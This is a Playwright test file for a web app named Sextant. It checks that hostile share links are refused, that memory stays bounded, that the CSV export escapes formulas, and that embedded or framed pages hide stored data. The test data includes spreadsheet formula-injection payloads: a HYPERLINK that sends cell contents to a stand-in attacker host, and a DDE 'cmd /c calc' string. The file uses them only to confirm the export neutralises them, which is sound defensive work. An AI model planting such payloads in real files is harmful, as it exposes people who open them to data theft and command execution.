// What a hostile link may ask for: refused with what it holds, or opened
// within bounded memory without starting heavy work; a shared portfolio's CSV
// plants no formula; embed mode and frames never show what the reader stored.
import { readFile } from "node:fs/promises";
import { test, expect, open } from "./fixtures.mjs";
import { decodeLink, hostileRoiLinks, largestPortfolioLink, largestRoiLink, portfolioWith } from "./links.mjs";

/** Keeps every wasm memory the page creates, to read its size later. */
async function watchMemory(page) {
  await page.addInitScript(() => {
    window.__memories = [];
    for (const name of ["instantiate", "instantiateStreaming"]) {
      const original = WebAssembly[name];
      WebAssembly[name] = function (...args) {
        return original.apply(this, args).then((result) => {
          const exports = (result.instance ?? result).exports;
          for (const value of Object.values(exports ?? {})) {
            if (value instanceof WebAssembly.Memory && !window.__memories.includes(value)) window.__memories.push(value);
          }
          return result;
        });
      };
    }
  });
}

const wasmMegabytes = (page) =>
  page.evaluate(() => Math.max(0, ...window.__memories.map((m) => m.buffer.byteLength)) / 2 ** 20);

async function exampleLink(page, fragment, button) {
  await open(page, fragment);
  await page.getByRole("button", { name: button }).click();
  await page.waitForURL(/#\/[a-z-]+\/[A-Za-z0-9_-]+$/);
  return page.getByLabel("Share link").inputValue();
}

test("hostile ROI links are refused with what they hold, before any work", async ({ page }) => {
  const roi = decodeLink(await exampleLink(page, "#/roi", /Start from this example: Churn prediction/));
  await watchMemory(page);
  for (const [what, fragment, message] of hostileRoiLinks(roi)) {
    await page.goto("./" + fragment);
    await page.reload();
    const alert = page.getByRole("alert");
    await expect(alert, what).toContainText("This share link cannot be opened: ");
    await expect(alert, what).toContainText(message);
    await expect(page.getByText("Nothing stored in this browser was changed.")).toBeVisible();
    expect(await wasmMegabytes(page), what).toBeLessThan(64);
  }
});

test("the largest model a link may carry opens without starting its 200,000 trials", async ({ page }) => {
  const roi = decodeLink(await exampleLink(page, "#/roi", /Start from this example: Churn prediction/));
  await watchMemory(page);
  await page.goto("./" + largestRoiLink(roi));
  await page.reload();
  await expect(page.getByText("Shared with you · read-only")).toBeVisible();
  const run = page.getByRole("button", { name: "Run the simulation (200,000 trials)" });
  await expect(run).toBeVisible();
  await expect(page.getByRole("progressbar")).toHaveCount(0);
  await run.click();
  await expect(page.getByRole("progressbar")).toBeVisible();
  // The whole run: memory stays far below the 4 GB that 3,900 ranges once
  // grew it to.
  await expect(page.getByRole("status").filter({ hasText: /200,000 trials with seed \d+, computed in/ })).toBeVisible({
    timeout: 90_000,
  });
  expect(await wasmMegabytes(page)).toBeLessThan(256);
});

test("a shared portfolio's ranking CSV plants no formula, and a portfolio past the limit is refused", async ({ page }) => {
  const portfolio = decodeLink(await exampleLink(page, "#/portfolio", "Start from the example"));
  const names = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "@SUM(1+1)*cmd|'/c calc'!A0", "+1", "-2", "Plain"];
  await page.goto("./" + portfolioWith(portfolio, names.length, (i) => names[i]));
  await page.reload();
  await expect(page.getByText("Shared with you · read-only")).toBeVisible();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Download ranking (CSV)" }).click(),
  ]);
  const csv = await readFile(await download.path(), "utf8");
  const lines = csv.trim().split("\n").slice(1);
  expect(lines).toHaveLength(names.length);
  for (const line of lines) {
    const cell = line.split(",")[1].replace(/^"/, "");
    expect(cell, line).not.toMatch(/^[=+\-@\t\r]/);
  }
  expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
  expect(csv).toContain("'@SUM(1+1)*cmd|'/c calc'!A0");

  const [largest, n] = largestPortfolioLink(portfolio);
  expect(n).toBeGreaterThan(500);
  await page.goto("./" + largest);
  await page.reload();
  await expect(page.getByRole("alert")).toHaveText(
    `This share link cannot be opened: it holds ${n.toLocaleString("en-US")} projects; Sextant accepts up to 500.`,
  );
});

test("embed mode never shows what the reader stored, and a frame gets only a link to it", async ({ page }) => {
  await open(page, "#/saved?embed=1");
  // The option is ignored: the page has its header and navigation.
  await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
  await open(page, "#/roi?embed=1");
  await expect(page.getByRole("navigation", { name: "Main" })).toHaveCount(0);

  // Framed by a page of the same site, Saved shows only a way out.
  await open(page, "#/");
  await page.evaluate(() => {
    const frame = document.createElement("iframe");
    frame.title = "Framed Sextant";
    frame.src = "./#/saved";
    frame.style.height = "600px";
    document.body.append(frame);
  });
  const framed = page.frameLocator('iframe[title="Framed Sextant"]');
  await expect(framed.getByRole("heading", { name: "Open Sextant in its own tab" })).toBeVisible();
  await expect(framed.getByRole("link", { name: "Open in a new tab" })).toHaveAttribute("target", "_blank");
  await expect(framed.getByRole("button", { name: "Delete all my data" })).toHaveCount(0);
});
